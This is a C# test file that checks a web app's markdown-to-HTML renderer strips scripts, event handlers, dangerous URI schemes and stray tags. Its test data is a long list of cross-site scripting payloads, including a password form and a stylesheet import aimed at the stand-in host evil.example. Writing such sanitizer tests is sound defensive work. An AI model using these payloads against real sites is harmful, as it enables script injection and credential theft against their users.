using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Studio.Web.Controls;

namespace Studio.Web.Tests.House;

/// <summary>Texts of people become HTML in one place, and nothing that runs, loads or leads astray comes out of it.</summary>
public sealed class UserMarkdownTests
{
    private static readonly string[] Elements =
        ["p", "br", "hr", "h3", "h4", "h5", "h6", "strong", "em", "del", "code", "pre", "blockquote", "ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th", "td", "span"];

    private static readonly string[] Attributes = ["href", "title", "start", "target", "rel"];

    public static TheoryData<string> Hostile =>
    [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>", "<a href=javascript:alert(1)>x</a>",
        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\nscript:alert(1))", "[x](<java\tscript:alert(1)>)", "[x](&#106;avascript:alert(1))", "[x](javascript&colon;alert(1))",
        "[x](\u0001javascript:alert(1))", "[x]( javascript:alert(1))", "[x](vbscript:msgbox(1))", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](file:///etc/passwd)",
        "<javascript:alert(1)>", "<data:text/html,<script>alert(1)</script>>", "![x](javascript:alert(1))", "![x](https://evil.example/p.png \"a\" onerror=alert(1))", "![x\" onerror=\"alert(1)](x)",
        "[x](https://a.example \"\\\" onmouseover=\\\"alert(1)\")", "[x](https://a.example/\" onmouseover=\"alert(1))", "[a]: javascript:alert(1)\n\n[a]", "[a]: <javascript:alert(1)> 'x'\n\n![a]",
        "`<script>alert(1)</script>`", "```\" onload=\"alert(1)\n<script>alert(1)</script>\n```", "```html\n</code></pre><script>alert(1)</script>\n```", "<style>@import 'https://evil.example/x.css';</style>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>", "<form action=https://evil.example><input name=password></form>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<a id=body name=getElementById>x</a>", "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<object data=x></object><embed src=x>", "<link rel=stylesheet href=x>",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |", "# <img src=x onerror=alert(1)>", "- <b onclick=alert(1)>x</b>", "> <script>alert(1)</script>", "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><script>alert(1)</script>", "https://a.example/\"onmouseover=alert(1)//", "www.a.example/<script>alert(1)</script>", "{{constructor.constructor('alert(1)')()}}", "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
        "[x](https://a.example){onclick=alert(1)}", "\u2028<script>alert(1)</script>", "<scr\0ipt>alert(1)</scr\0ipt>", "<a href=\"java&#x0A;script:alert(1)\">x</a>",
    ];

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Nothing_hostile_comes_out(string text)
    {
        var page = Parse(text);

        Assert.All(page.QuerySelectorAll("*"), element =>
        {
            Assert.Contains(element.LocalName, Elements);
            Assert.All(element.Attributes, attribute => Assert.Contains(attribute.Name, Attributes));
        });
        Assert.All(page.QuerySelectorAll("[href]"), link =>
        {
            var target = new Uri(new Uri("https://studio.example/p/1/"), link.GetAttribute("href")!);
            Assert.Contains(target.Scheme, new[] { "http", "https", "mailto" });
        });
    }

    [Fact]
    public void Links_open_a_window_of_their_own_that_learns_nothing_and_pictures_are_links()
    {
        var page = Parse("[site](https://a.example \"A site\") https://b.example ![a chart](https://c.example/chart.png) [inside](/p/1/datasets) [mail](mailto:a@b.example)");

        Assert.Equal(["https://a.example", "https://b.example", "https://c.example/chart.png", "/p/1/datasets", "mailto:a@b.example"], page.QuerySelectorAll("a").Select(a => a.GetAttribute("href")));
        Assert.All(page.QuerySelectorAll("a"), a => Assert.Equal(("_blank", "noopener noreferrer nofollow"), (a.GetAttribute("target"), a.GetAttribute("rel"))));
        Assert.Empty(page.QuerySelectorAll("img"));
        Assert.Contains("a chart", page.TextContent, StringComparison.Ordinal);
    }

    [Fact]
    public void What_people_write_is_set_as_they_mean_it()
    {
        var page = Parse("# Refund\nWrites *late*, ~~lost~~ or **broken**:\n\n1. one\n2. two\n   - deep\n\n> quoted\n\n| label | key |\n|---|:-:|\n| a | 1 |\n\nline one\nline two\n\n`x < y` & <b>as typed</b>");

        Assert.Equal("Refund", page.QuerySelector("h3")!.TextContent);
        Assert.Equal(["late", "lost", "broken"], page.QuerySelectorAll("em, del, strong").Select(e => e.TextContent));
        Assert.Equal("deep", page.QuerySelector("ol > li ul > li")!.TextContent.Trim());
        Assert.Equal("quoted", page.QuerySelector("blockquote")!.TextContent.Trim());
        Assert.Equal(["label", "key", "a", "1"], page.QuerySelectorAll("th, td").Select(e => e.TextContent));
        Assert.Equal("line one\nline two", page.QuerySelectorAll("p").Single(p => p.QuerySelector("br") is not null && p.TextContent.StartsWith("line", StringComparison.Ordinal)).TextContent);
        Assert.Contains("x < y & <b>as typed</b>", page.TextContent, StringComparison.Ordinal);
    }

    [Fact]
    public void Names_that_are_mentioned_stand_out_wherever_text_stands_but_not_in_code()
    {
        string[] names = ["Will H. Thom", "Max", "Ada_Lovelace Byron", "<b>Eve</b>"];
        var page = new HtmlParser().ParseDocument(UserMarkdown.ToHtml(
            "@will h. thom and **@Max**, @Ada_Lovelace Byron, @<b>Eve</b>; not max@max.example, @Maxine or `@Max`", names).Value);

        Assert.Equal(["@will h. thom", "@Max", "@Ada_Lovelace Byron", "@<b>Eve</b>"], page.QuerySelectorAll("span.mention").Select(e => e.TextContent));
        Assert.Equal("@Max", page.QuerySelector("strong")!.TextContent);
        Assert.Equal("@Max", page.QuerySelector("code")!.TextContent);
        Assert.DoesNotContain("class", UserMarkdown.ToHtml("```mention\nx\n```").Value, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("> ")]
    [InlineData("- ")]
    [InlineData("[")]
    [InlineData("*a ")]
    [InlineData("![")]
    [InlineData("`")]
    [InlineData("|")]
    [InlineData("<a ")]
    public void A_text_of_nothing_but_openings_is_shown_and_not_an_error(string opening)
    {
        var text = string.Concat(Enumerable.Repeat(opening, 100_000 / opening.Length));

        var page = Parse(text);

        Assert.True(page.QuerySelectorAll("*").Length <= text.Length);
        Assert.Empty(page.QuerySelectorAll("a:not([rel])"));
    }

    [Fact]
    public void No_other_file_makes_markup_of_texts() => Assert.Equal(
        ["src/Studio.Web/Controls/MarkdownText.razor", "src/Studio.Web/Controls/UserMarkdown.cs"],
        SourceTree.Files(".cs", ".razor").Where(file => file.StartsWith("src", StringComparison.Ordinal) && SourceTree.Lines(file).Any(line => line.Contains("Markup" + "String", StringComparison.Ordinal) || line.Contains("AddMarkup" + "Content", StringComparison.Ordinal))).Order(StringComparer.Ordinal));

    private static IElement Parse(string text)
    {
        var html = UserMarkdown.ToHtml(text).Value;
        return new HtmlParser().ParseDocument($"<body><main>{html}</main></body>").QuerySelector("main")!;
    }
}
